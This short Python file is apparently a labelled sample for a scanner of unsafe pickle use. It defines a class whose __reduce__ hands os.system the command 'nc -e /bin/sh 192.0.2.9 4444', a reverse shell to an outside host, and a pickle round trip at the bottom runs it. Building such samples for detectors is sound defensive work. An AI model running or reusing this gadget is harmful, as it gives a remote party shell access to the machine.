# expect: stdlib; class whose __reduce__ returns (os.system, cmd); the round trip through pickle runs it
import os
import pickle


class Job:
    def __reduce__(self):
        return (os.system, ("nc -e /bin/sh 192.0.2.9 4444",))


pickle.loads(pickle.dumps(Job()))
